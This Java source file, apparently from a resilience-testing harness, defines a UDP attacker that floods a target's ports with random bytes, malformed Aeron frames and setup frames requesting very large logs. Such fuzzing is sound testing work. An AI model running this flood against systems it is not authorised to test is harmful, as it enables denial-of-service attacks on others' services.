package org.gradwire.attack.intruder;

import java.io.IOException;
import java.net.DatagramPacket;
import java.net.DatagramSocket;
import java.net.InetAddress;
import java.nio.ByteBuffer;
import java.nio.ByteOrder;
import java.util.concurrent.locks.LockSupport;
import java.util.random.RandomGenerator;

/**
 * Sends datagrams to the UDP ports of the victim: rubbish, Aeron's frames of odd lengths and types,
 * setups that ask for large logs, and data for sessions that were guessed.
 */
final class UdpRubbish implements Attacker {
    private static final int SETUP = 5;
    private static final int TYPES = 8;
    private static final int MOST_BYTES = 1_400;
    private static final int SETUP_BYTES = 40;
    private static final int LEAST_HEADER = 24;
    private static final int BATCH = 64;
    private static final long PAUSE_NANOS = 200_000;

    @Override
    public void attack(Target target, RandomGenerator random, Tally tally) throws IOException {
        if (target.udpPorts().isEmpty()) {
            return; // nothing to attack, which is what the report says
        }
        InetAddress host = InetAddress.getByName(target.host());
        try (var socket = new DatagramSocket()) {
            tally.connected();
            while (!tally.isOver()) {
                for (int i = 0; i < BATCH; i++) {
                    int port = target.udpPorts().get(random.nextInt(target.udpPorts().size()));
                    byte[] bytes = datagram(random);
                    socket.send(new DatagramPacket(bytes, bytes.length, host, port));
                    tally.sent();
                }
                LockSupport.parkNanos(PAUSE_NANOS); // else the kernel drops them
            }
        }
    }

    private static byte[] datagram(RandomGenerator random) {
        return switch (random.nextInt(4)) {
            case 0 -> rubbish(random, 1 + random.nextInt(MOST_BYTES));
            case 1 -> setup(random);
            default -> frame(random);
        };
    }

    private static byte[] rubbish(RandomGenerator random, int length) {
        byte[] bytes = new byte[length];
        random.nextBytes(bytes);
        return bytes;
    }

    /** Aeron's header, sound but for what is random. */
    private static byte[] frame(RandomGenerator random) {
        byte[] bytes = rubbish(random, LEAST_HEADER + random.nextInt(MOST_BYTES - LEAST_HEADER));
        header(bytes, random.nextInt(TYPES), random.nextInt(8) == 0 ? -1 : bytes.length);
        return bytes;
    }

    private static byte[] setup(RandomGenerator random) {
        byte[] bytes = rubbish(random, SETUP_BYTES);
        ByteBuffer frame = header(bytes, SETUP, SETUP_BYTES);
        frame.putInt(8, 0).putInt(24, frame.getInt(20)); // term offset, active term
        frame.putInt(28, 1 << (16 + random.nextInt(15))); // length of a term
        frame.putInt(32, MOST_BYTES + 8).putInt(36, 0); // mtu, ttl
        return bytes;
    }

    private static ByteBuffer header(byte[] bytes, int type, int length) {
        return ByteBuffer.wrap(bytes)
                .order(ByteOrder.LITTLE_ENDIAN)
                .putInt(0, length)
                .putShort(4, (short) 0xc000)
                .putShort(6, (short) type);
    }
}
